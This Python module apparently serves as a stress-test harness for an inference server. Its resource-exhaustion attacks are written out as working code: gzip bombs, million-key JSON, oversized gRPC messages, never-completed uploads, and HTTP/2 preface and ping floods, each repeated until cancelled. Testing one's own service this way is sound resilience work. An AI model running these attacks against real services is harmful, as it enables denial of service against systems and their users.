"""What a stranger sends to do harm: each attack goes on until it is cancelled."""

import asyncio
import gzip
import zlib
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import grpc

MEGABYTES = 18
FORM = "content-type: multipart/form-data; boundary=x\r\n"
GZIP = "content-encoding: gzip\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
SETTLED = PREFACE + bytes([0, 0, 0, 4, 1, 0, 0, 0, 0])
PINGS = bytes([0, 0, 8, 6, 0, 0, 0, 0, 0, *range(8)]) * 1000

Attack = Callable[[], Coroutine[Any, Any, None]]


@dataclass(frozen=True)
class Target:
    http: str
    """host:port"""
    grpc: str


async def again(attempt: Callable[[], Awaitable[None]]) -> None:
    """An attacker does not mind being hung up on."""
    while True:
        with suppress(OSError, EOFError, grpc.aio.AioRpcError):
            await attempt()
        await asyncio.sleep(0)


async def exchange(address: str, sent: bytes) -> None:
    """A connection, one request, and all of its answer."""
    host, _, port = address.partition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(sent)
        await writer.drain()
        await reader.read()
    finally:
        writer.transport.abort()


async def idle(address: str, sent: bytes, connections: int) -> None:
    """Connections that send so much, and no more."""
    host, _, port = address.partition(":")
    opened = [await asyncio.open_connection(host, int(port)) for _ in range(connections)]
    for _, writer in opened:
        writer.write(sent)
    await asyncio.gather(*(reader.read() for reader, _ in opened))


async def unread(address: str, first: bytes, then: bytes) -> None:
    """A connection that sends without end, and reads nothing."""
    host, _, port = address.partition(":")
    _, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(first)
        while True:
            writer.write(then)
            await writer.drain()
    finally:
        writer.transport.abort()


async def pinged(address: str, first: bytes) -> None:
    """Pings without end, all of whose answers are read."""
    host, _, port = address.partition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(first)
        while not reader.at_eof():
            writer.write(PINGS)
            await reader.read(len(PINGS))
    finally:
        writer.transport.abort()


def post(body: bytes, headers: str = "", path: str = "/v1/classify", method: str = "POST") -> bytes:
    head = f"{method} {path} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n{headers}"
    return f"{head}content-length: {len(body)}\r\n\r\n".encode() + body


def field(number: int, content: bytes) -> bytes:
    """Of a protobuf message."""
    size, rest = b"", len(content)
    while rest > 127:
        size, rest = size + bytes([rest & 127 | 128]), rest >> 7
    return bytes([number << 3 | 2]) + size + bytes([rest]) + content


def photos(folder: Path) -> dict[str, bytes]:
    """Requests with the files of a folder; `.form.gz` is sent as it is, another `.gz` unpacked."""
    requests = {}
    for path in sorted(folder.iterdir()):
        data = path.read_bytes()
        if path.name.endswith(".form.gz"):
            requests[path.name] = post(data, FORM + GZIP)
            requests[f"{path.name}, unpacked"] = post(gzip.decompress(data)[: 1 << 20], FORM)
        else:
            requests[path.name] = post(gzip.decompress(data) if path.suffix == ".gz" else data)
    return requests


def attacks(target: Target, folder: Path) -> dict[str, Attack]:
    """By their names."""
    bomb = zlib.compressobj(9, wbits=31)
    zipped = b"".join([*(bomb.compress(bytes(1 << 20)) for _ in range(200)), bomb.flush()])
    names = b'{"a":{' + b",".join(b'"%d":1' % i for i in range(1_000_000)) + b"}}"
    infer = "/v2/models/alexnet/infer"
    rest = photos(folder) | {
        "gzip bomb to /livez": post(zipped, GZIP, "/livez", "GET"),
        "gzip bomb for a photo": post(zipped, GZIP),
        "a million names in JSON": post(names, path=infer),
        "500,000 values in JSON": post(b'{"a":[' + b"0," * 490_000 + b"0]}", path=infer),
    }
    found: dict[str, Attack] = {
        name: lambda sent=sent: again(lambda: exchange(target.http, sent))  # type: ignore[misc]
        for name, sent in rest.items()
    }
    empty = field(1, b"alexnet") + field(5, field(5, b"\x42\x00" * (MEGABYTES * 500_000)))
    large = field(1, b"no such model") + field(7, bytes(MEGABYTES * 1_000_000))
    for name, message in {"gRPC, empty elements": empty, "gRPC, large and refused": large}.items():
        found[name] = lambda message=message: again(lambda: call(target.grpc, message))  # type: ignore[misc]
    head = post(b"").replace(b"content-length: 0", b"content-length: 19000000")
    found["uploads that never come"] = lambda: again(lambda: idle(target.http, head, 50))
    found["HTTP/2, no settings"] = lambda: again(lambda: unread(target.grpc, PREFACE, PINGS))
    found["HTTP/2, pings"] = lambda: again(lambda: unread(target.grpc, SETTLED, PINGS))
    found["HTTP/2, pings, answers read"] = lambda: again(lambda: pinged(target.grpc, SETTLED))
    get = b"GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n" * 100
    found["answers that are not read"] = lambda: again(lambda: unread(target.http, b"", get))
    return found


async def call(address: str, message: bytes) -> None:
    async with grpc.aio.insecure_channel(address) as channel:
        infer: Any = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
        await infer(message, timeout=30)
